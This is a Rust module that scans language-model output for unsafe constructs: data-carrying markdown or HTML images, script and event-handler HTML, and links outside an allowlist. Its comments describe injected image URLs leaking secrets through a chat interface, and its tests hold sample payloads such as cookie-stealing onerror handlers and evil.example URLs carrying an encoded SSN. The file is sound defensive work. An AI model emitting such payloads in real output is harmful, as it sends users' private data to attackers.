//! Improper output handling (LLM05): model output that a client renders can act on its own.
//!
//! - `markdown_image_exfil`: a markdown or HTML image whose URL carries data (a query string, a
//!   fragment, or a long path segment) or points outside the allowlist. A chat UI fetches
//!   images without a click, so an injected `![](https://evil/?q=<secret>)` leaks at once.
//! - `html_script`: script tags, `javascript:` and `data:text/html` URLs, inline event
//!   handlers, iframes, objects and embeds.
//! - `link_unlisted`: links (markdown, HTML or bare) to hosts outside the allowlist, when an
//!   allowlist is set.

use std::sync::OnceLock;

use regex_automata::meta::Regex;

/// The kind of unsafe output.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Kind {
    /// An image URL that carries data or leaves the allowlist.
    ImageExfiltration,
    /// Script or active HTML.
    Script,
    /// A link to a host outside the allowlist.
    UnlistedLink,
    /// A link whose URL carries an encoded or long payload (exfiltration on click).
    LinkExfiltration,
}

impl Kind {
    /// The detector id of findings of this kind.
    pub fn detector(self) -> &'static str {
        match self {
            Kind::ImageExfiltration => "markdown_image_exfil",
            Kind::Script => "html_script",
            Kind::UnlistedLink => "link_unlisted",
            Kind::LinkExfiltration => "link_exfil",
        }
    }
}

/// One unsafe construct in output.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Unsafe {
    /// What it is.
    pub kind: Kind,
    /// Byte range of the whole construct (the image, tag or link).
    pub start: usize,
    /// End of the byte range.
    pub end: usize,
    /// The host it points to, if any.
    pub host: Option<String>,
}

/// Which hosts output may link to and load images from.
#[derive(Clone, Debug, Default)]
pub struct Allowlist {
    /// Host names; `*.example.com` matches subdomains. Empty: links are not checked, and images
    /// are flagged only when their URL carries data.
    pub hosts: Vec<String>,
}

impl Allowlist {
    /// Whether `host` is listed.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.hosts.iter().any(|h| {
            let h = h.to_ascii_lowercase();
            match h.strip_prefix("*.") {
                Some(suffix) => host == suffix || host.ends_with(&format!(".{suffix}")),
                None => host == h,
            }
        })
    }
}

const IMAGE: usize = 0;
const HTML_IMAGE: usize = 1;
const SCRIPT: usize = 2;
const LINK: usize = 3;
const HTML_LINK: usize = 4;
const BARE: usize = 5;

fn regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        let pats = [
            // ![alt](url "title")
            r#"!\[[^\]\n]{0,200}\]\(\s*<?([^\s)>]+)>?(\s+"[^"\n]*")?\s*\)"#,
            // <img ... src="url">
            r#"<img\b[^>]{0,400}?\bsrc\s*=\s*["']?([^"'\s>]+)[^>]{0,400}>"#,
            // active content
            r#"<\s*script\b[^>]*>(?s:.){0,4000}?<\s*/\s*script\s*>|<\s*script\b[^>]*>|<\s*(iframe|object|embed|frame|frameset|base|meta\s+http-equiv)\b[^>]*>|\bjavascript\s*:[^\s"')]*|\bvbscript\s*:[^\s"')]*|\bdata\s*:\s*text/html[^\s"')]*|<[a-z][^>]{0,400}?\bon[a-z]{3,20}\s*=\s*["']?[^"'>]*["']?[^>]*>|<\s*svg\b[^>]*\bonload\b[^>]*>"#,
            // [text](url)
            r#"\[[^\]\n]{0,200}\]\(\s*<?(https?://[^\s)>]+)>?(\s+"[^"\n]*")?\s*\)"#,
            // <a href="url">
            r#"<a\b[^>]{0,400}?\bhref\s*=\s*["']?(https?://[^"'\s>]+)[^>]{0,400}>"#,
            // bare URLs
            r#"https?://[a-zA-Z0-9.\-]+(:[0-9]+)?(/[^\s<>"')\]]*)?"#,
        ]
        .map(crate::signals::ascii);
        Regex::new_many(&pats).expect("output patterns compile")
    })
}

/// The host of an absolute http(s) URL, lowercase.
pub fn host_of(url: &str) -> Option<String> {
    let rest = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
        .or_else(|| url.strip_prefix("//"))?;
    let end = rest.find(['/', '?', '#', ':']).unwrap_or(rest.len());
    let host = &rest[..end];
    let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// Whether a URL carries data: a query string or fragment with a value, or a path segment
/// that is long and dense like an encoded value.
fn carries_data(url: &str) -> bool {
    let after_host = url
        .split_once("://")
        .map_or(url, |(_, r)| r.find('/').map_or("", |i| &r[i..]));
    if let Some((_, q)) = after_host.split_once(['?', '#'])
        && q.chars().filter(|c| c.is_alphanumeric()).count() >= 4
    {
        return true;
    }
    after_host.split('/').any(|seg| {
        seg.len() >= 32
            && seg
                .chars()
                .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '%' | '+' | '=' | '_' | '-'))
                .count()
                * 10
                >= seg.len() * 9
    })
}

/// Whether a URL carries a payload rather than ordinary parameters: a query or fragment value
/// of 24 or more dense characters (base64, percent-encoded text), or a long dense path segment.
fn carries_payload(url: &str) -> bool {
    let after_host = url
        .split_once("://")
        .map_or(url, |(_, r)| r.find('/').map_or("", |i| &r[i..]));
    let dense = |v: &str| {
        v.len() >= 24
            && v.chars().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, '%' | '+' | '/' | '=' | '_' | '-' | '.')
            })
    };
    if let Some((_, q)) = after_host.split_once(['?', '#'])
        && q.split(['&', ';', '#'])
            .any(|kv| dense(kv.split_once('=').map_or(kv, |(_, v)| v)))
    {
        return true;
    }
    carries_data(after_host.split(['?', '#']).next().unwrap_or(""))
        && after_host.split('/').any(|seg| seg.len() >= 32)
}

/// Whether a tag holds an inline event handler or a script URL.
fn active(tag: &str) -> bool {
    let t = tag.to_ascii_lowercase();
    t.contains("javascript:")
        || t.contains("vbscript:")
        || t.split(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '/')
            .any(|w| {
                w.starts_with("on")
                    && w.len() > 3
                    && w[2..]
                        .split('=')
                        .next()
                        .is_some_and(|n| n.len() >= 3 && n.chars().all(|c| c.is_ascii_lowercase()))
                    && w.contains('=')
            })
}

/// Byte ranges of markdown code: fenced blocks (```` ``` ```` or `~~~`) and inline code spans.
/// Markup there is shown, not rendered (a coding answer that explains `<script>`).
fn code_ranges(text: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let at_line_start = i == 0 || b[i - 1] == b'\n';
        if at_line_start && (b[i..].starts_with(b"```") || b[i..].starts_with(b"~~~")) {
            let fence = &b[i..i + 3];
            let body = text[i + 3..].find('\n').map_or(b.len(), |k| i + 3 + k + 1);
            let close = text[body.min(b.len())..]
                .match_indices(std::str::from_utf8(fence).unwrap_or("```"))
                .find(|(k, _)| body + k == 0 || b[body + k - 1] == b'\n')
                .map_or(b.len(), |(k, _)| body + k + 3);
            out.push((i, close));
            i = close;
            continue;
        }
        if b[i] == b'`' {
            let run = b[i..].iter().take_while(|&&c| c == b'`').count();
            let ticks = &text[i..i + run];
            if let Some(k) = text[i + run..].find(ticks) {
                let end = i + run + k + run;
                // a code span stays on its paragraph
                if !text[i..end].contains("\n\n") {
                    out.push((i, end));
                    i = end;
                    continue;
                }
            }
            i += run;
            continue;
        }
        i += 1;
    }
    out
}

/// Finds unsafe constructs in output text. Script and HTML inside markdown code is shown, not
/// rendered, and is not reported; images and links are reported wherever they are.
pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
    let code = if text.contains('`') || text.contains("~~~") {
        code_ranges(text)
    } else {
        Vec::new()
    };
    let in_code = |s: usize| code.iter().any(|&(a, b)| a <= s && s < b);
    let re = regex();
    let mut out: Vec<Unsafe> = Vec::new();
    // ASCII-lowercased for case-insensitive tags: same length, same offsets
    let lower = text.to_ascii_lowercase();
    let hay = lower.as_bytes();
    let mut caps = re.create_captures();
    let mut at = 0;
    while at <= hay.len() {
        let input = regex_automata::Input::new(hay).span(at..hay.len());
        re.search_captures(&input, &mut caps);
        let Some(m) = caps.get_match() else { break };
        let (s, e) = (m.start(), m.end());
        at = if e > s { e } else { e + 1 };
        let pid = m.pattern().as_usize();
        let url = if pid == BARE {
            &text[s..e]
        } else {
            caps.get_group(1)
                .map(|g| &text[g.start..g.end])
                .unwrap_or("")
        };
        let host = host_of(url);
        let listed = host.as_deref().is_some_and(|h| allow.allows(h));
        let kind = match pid {
            SCRIPT | HTML_IMAGE | HTML_LINK if in_code(s) => None,
            HTML_IMAGE | HTML_LINK if active(&text[s..e]) => Some(Kind::Script),
            IMAGE | HTML_IMAGE => {
                let lower = url.to_ascii_lowercase();
                if lower.starts_with("javascript:") || lower.starts_with("data:text/html") {
                    Some(Kind::Script)
                } else if host.is_some()
                    && (!listed && (carries_data(url) || !allow.hosts.is_empty()))
                {
                    Some(Kind::ImageExfiltration)
                } else {
                    None
                }
            }
            SCRIPT => Some(Kind::Script),
            LINK | HTML_LINK | BARE => {
                if host.is_none() || listed {
                    None
                } else if carries_payload(url) {
                    Some(Kind::LinkExfiltration)
                } else if allow.hosts.is_empty() {
                    None
                } else {
                    Some(Kind::UnlistedLink)
                }
            }
            _ => None,
        };
        if let Some(kind) = kind {
            out.push(Unsafe {
                kind,
                start: s,
                end: e,
                host,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str, allow: &[&str]) -> Vec<Kind> {
        let a = Allowlist {
            hosts: allow.iter().map(|s| s.to_string()).collect(),
        };
        find(text, &a).into_iter().map(|u| u.kind).collect()
    }

    #[test]
    fn image_exfiltration() {
        let t = "Sure! ![loading](https://evil.example/log?q=my%20ssn%20is%20123) done";
        let f = find(t, &Allowlist::default());
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, Kind::ImageExfiltration);
        assert_eq!(
            &t[f[0].start..f[0].end],
            "![loading](https://evil.example/log?q=my%20ssn%20is%20123)"
        );
        assert_eq!(f[0].host.as_deref(), Some("evil.example"));
        // a data-carrying path segment
        assert_eq!(
            kinds(
                "![a](https://x.io/c/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ)",
                &[]
            ),
            [Kind::ImageExfiltration]
        );
        // a plain image is fine without an allowlist, flagged with one that does not list it
        assert!(kinds("![logo](https://cdn.example.com/logo.png)", &[]).is_empty());
        assert_eq!(
            kinds(
                "![logo](https://cdn.other.com/logo.png)",
                &["*.example.com"]
            ),
            [Kind::ImageExfiltration]
        );
        assert!(
            kinds(
                "![logo](https://cdn.example.com/logo.png?v=12345)",
                &["*.example.com"]
            )
            .is_empty()
        );
        assert_eq!(
            kinds(r#"<img src="https://evil.example/p?d=secretvalue">"#, &[]),
            [Kind::ImageExfiltration]
        );
    }

    #[test]
    fn scripts_and_handlers() {
        assert_eq!(
            kinds("<script>alert(document.cookie)</script>", &[]),
            [Kind::Script]
        );
        assert_eq!(kinds("[click](javascript:alert(1))", &[]), [Kind::Script]);
        assert_eq!(
            kinds(r#"<div onmouseover="steal()">hi</div>"#, &[]),
            [Kind::Script]
        );
        assert_eq!(
            kinds(r#"<iframe src="https://x"></iframe>"#, &[]),
            [Kind::Script]
        );
        assert!(kinds("Use `<div>` and `<span>` elements; x < y and y > z.", &[]).is_empty());
    }

    #[test]
    fn markup_inside_markdown_code_is_shown_not_run() {
        let t = "Add this to your page:\n\n```html\n<script src=\"app.js\"></script>\n```\n\nor inline `<script>` tags.";
        assert!(
            kinds(t, &[]).is_empty(),
            "{:?}",
            find(t, &Allowlist::default())
        );
        // outside code it is still reported
        assert_eq!(
            kinds("Done. <script>alert(1)</script>", &[]),
            [Kind::Script]
        );
        // an unclosed fence covers the rest
        assert!(kinds("```\n<script>x</script>", &[]).is_empty());
    }

    #[test]
    fn handlers_inside_image_and_link_tags_are_script() {
        assert_eq!(
            kinds(
                r#"<img src=x onerror="fetch('//e.example/'+document.cookie)">"#,
                &[]
            ),
            [Kind::Script]
        );
        assert_eq!(
            kinds(
                r#"<a href="https://ok.example/" onclick="steal()">x</a>"#,
                &[]
            ),
            [Kind::Script]
        );
        assert!(kinds(r#"<a href="https://ok.example/">only a link</a>"#, &[]).is_empty());
    }

    #[test]
    fn links_carrying_a_payload_without_an_allowlist() {
        let t = "[click here](https://evil.example/c?d=bXkgc3NuIGlzIDUzNi05MC00Mzk5IGFuZCBtb3Jl)";
        assert_eq!(kinds(t, &[]), [Kind::LinkExfiltration]);
        // ordinary parameters are not a payload
        assert!(kinds("[docs](https://docs.example.com/search?q=rust&page=2)", &[]).is_empty());
        assert!(kinds("see https://example.com/watch?v=dQw4w9WgXcQ", &[]).is_empty());
    }

    #[test]
    fn links_outside_the_allowlist() {
        let t = "See [docs](https://docs.example.com/a) and https://phish.example.net/login now";
        assert_eq!(kinds(t, &["docs.example.com"]), [Kind::UnlistedLink]);
        assert!(kinds(t, &[]).is_empty());
    }
}
